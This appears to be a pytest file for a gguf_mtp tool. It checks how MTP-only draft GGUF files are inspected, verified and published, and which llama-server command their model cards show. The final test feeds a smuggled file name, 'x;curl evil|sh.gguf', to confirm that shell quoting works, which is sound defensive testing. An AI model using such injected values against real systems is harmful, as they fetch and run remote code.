"""An MTP-only file (a draft: NextN block tensors, no trunk block's) is recognised everywhere (issue 11, item 14).

``inspect`` calls it a draft (for ``--spec-draft-model`` when it carries token_embd/output, else one that
needs its target); ``verify`` checks it as a draft (issue 21 item 17: tests/test_verify_draft.py);
``publish`` refuses it as a model in one line; ``publish --standalone`` publishes it as a draft, with a
card that shows ``llama-server -m TARGET --spec-draft-model DRAFT``.
"""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest

from gguf_mtp.check.inspect import inspect
from gguf_mtp.check.verify import verify
from gguf_mtp.cli import main
from gguf_mtp.errors import ParameterError
from gguf_mtp.release.card import draft_command
from gguf_mtp.release.publish import publish
from gguf_mtp.testing.tiny_models import write_draft, write_target


@pytest.fixture(scope="module")
def drafts(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The shapes of MTP-only files: blk.0 (one-block file), blk.N bare (convert's 18 tensors), blk.N with globals."""
    root = tmp_path_factory.mktemp("mtp-only")
    return {
        "blk0": write_draft(root / "mtp-blk0.gguf", block=0),
        "bare": write_draft(root / "mtp-bare.gguf", block="N"),
        "standalone": write_draft(root / "mtp-standalone.gguf", block="N", with_globals=True),
    }


@pytest.fixture(scope="module")
def whole_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_target(tmp_path_factory.mktemp("mtp-model"), with_nextn=True, name="Model-MTP")


def _err_line(capsys: pytest.CaptureFixture[str]) -> str:
    err = capsys.readouterr().err
    assert err.count("\n") == 1, err
    return err


def test_a_bare_draft_is_inspected_as_a_draft_that_needs_its_target(drafts: dict[str, Path]) -> None:
    summary = inspect(drafts["bare"])
    assert summary.mtp_only and not summary.standalone and summary.kind == "mtp-draft"
    assert not summary.has_mtp  # not "a model with MTP"
    assert summary.mtp_verdict == (
        "MTP: draft only (1 block, blk.3): not a model by itself; it needs its target: "
        "gguf-mtp compose TARGET DRAFT -o OUTDIR"
    )
    assert "kind: MTP draft (NextN block tensors only, none of a trunk block)" in summary.describe()


def test_a_draft_with_globals_is_inspected_as_a_spec_draft_model(
    drafts: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["inspect", str(drafts["standalone"]), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert (report["kind"], report["mtp_only"], report["standalone"], report["has_mtp"]) == (
        "mtp-draft",
        True,
        True,
        False,
    )
    assert report["mtp_verdict"] == (
        "MTP: draft only (1 block, blk.3): not a model by itself; run it beside its target: "
        "llama-server -m TARGET --spec-draft-model DRAFT"
    )


def test_a_one_block_draft_is_a_draft_and_a_whole_model_is_not(drafts: dict[str, Path], whole_model: Path) -> None:
    assert inspect(drafts["blk0"]).mtp_verdict.startswith("MTP: draft only (1 block, blk.0): not a model by itself")
    model = inspect(whole_model)
    assert (model.mtp_only, model.kind, model.has_mtp) == (False, "model", True)
    assert model.mtp_verdict == "MTP: yes (1 block, blk.3)"
    assert not any(line.startswith("kind:") for line in model.describe())


@pytest.mark.parametrize("which", ["blk0", "bare", "standalone"])
def test_verify_checks_a_draft_as_a_draft(
    drafts: dict[str, Path], which: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["verify", str(drafts[which]), "--no-llama"]) == 0
    captured = capsys.readouterr()
    assert captured.err == ""
    assert captured.out.splitlines()[0] == f"verify {drafts[which]} (an MTP-only draft)"


def test_verify_checks_a_draft_as_a_draft_and_a_model_as_a_model(drafts: dict[str, Path], whole_model: Path) -> None:
    report = verify(drafts["bare"], llama=False, progress=False)
    assert report.ok and report.check("NextN tensors").ok and report.kind == "mtp-draft"
    model = verify(whole_model, llama=False, progress=False)  # a whole model is still a model
    assert model.ok and model.kind == "model"


def test_publish_refuses_a_draft_without_standalone(
    drafts: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["publish", str(drafts["standalone"]), "--repo", "me/mtp-tiny", "--dry-run"]) == 2
    err = _err_line(capsys)
    assert err == (
        f"gguf-mtp: error: {drafts['standalone']}: an MTP draft (NextN block tensors only, no trunk block tensors), "
        "not a model: publish the composite made from it (gguf-mtp compose TARGET DRAFT), or pass --standalone to "
        "publish it as a draft for llama-server --spec-draft-model\n"
    )
    assert capsys.readouterr().out == ""


def test_publish_standalone_refuses_a_whole_model(whole_model: Path) -> None:
    with pytest.raises(ParameterError, match="standalone publishes an MTP-only draft, but this is a whole model"):
        publish(whole_model, "me/m", dry_run=True, standalone=True, progress=False)


def test_the_card_of_a_standalone_draft_shows_the_spec_draft_model_command(
    drafts: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    argv = [
        "publish",
        str(drafts["standalone"]),
        "--repo",
        "me/mtp-tiny",
        "--dry-run",
        "--standalone",
        "--target-repo",
        "owner/Tiny-GGUF",
        "--target-file",
        "Q4/Tiny-Q4-00001-of-00003.gguf",
    ]
    assert main(argv) == 0
    card = capsys.readouterr().out.split("----- README.md -----\n", 1)[1]
    command = (
        "llama-server -m Q4/Tiny-Q4-00001-of-00003.gguf --spec-draft-model mtp-tiny/mtp-standalone.gguf "
        "--spec-type draft-mtp --spec-draft-n-max 3"
    )
    assert command in card.splitlines()
    assert "hf download me/mtp-tiny --local-dir mtp-tiny" in card.splitlines()
    assert "It is not a model by itself: llama.cpp loads it beside its target model as the drafter" in card
    assert not any(line.startswith("llama-server -m mtp-standalone.gguf") for line in card.splitlines())
    assert "gguf-mtp inspect mtp-standalone.gguf" in card.splitlines()


def test_the_card_without_a_target_file_names_a_placeholder(drafts: dict[str, Path]) -> None:
    report = publish(drafts["standalone"], "me/mtp-tiny", dry_run=True, standalone=True, progress=False)
    assert report.plan.standalone and report.to_dict()["standalone"] is True
    assert draft_command("TARGET.gguf", "mtp-tiny/mtp-standalone.gguf") in report.card.splitlines()
    assert "(`TARGET.gguf` is its first file)" in report.card


def test_the_draft_command_quotes_every_file_name() -> None:
    command = draft_command("a b.gguf", "x;curl evil|sh.gguf")
    assert shlex.split(command)[:5] == ["llama-server", "-m", "a b.gguf", "--spec-draft-model", "x;curl evil|sh.gguf"]
